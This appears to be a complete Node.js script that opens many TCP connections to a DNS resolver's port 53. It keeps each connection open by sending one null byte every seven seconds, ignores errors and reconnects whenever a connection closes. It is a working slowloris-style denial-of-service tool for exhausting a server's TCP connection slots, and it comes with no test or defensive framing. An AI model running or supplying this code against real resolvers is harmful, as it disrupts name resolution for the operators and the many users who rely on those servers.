// Opens many TCP connections to a resolver, again whenever one is closed, and sends a byte every seven seconds.
const { connect } = require('node:net');
const [server, many] = process.argv.slice(2);
function open() {
  const socket = connect(53, server);
  const timer = setInterval(() => socket.write('\0'), 7000);
  socket.on('error', () => {});
  socket.on('close', () => {
    clearInterval(timer);
    setTimeout(open, 200);
  });
}
for (let each = 0; each < Number(many); each++) open();
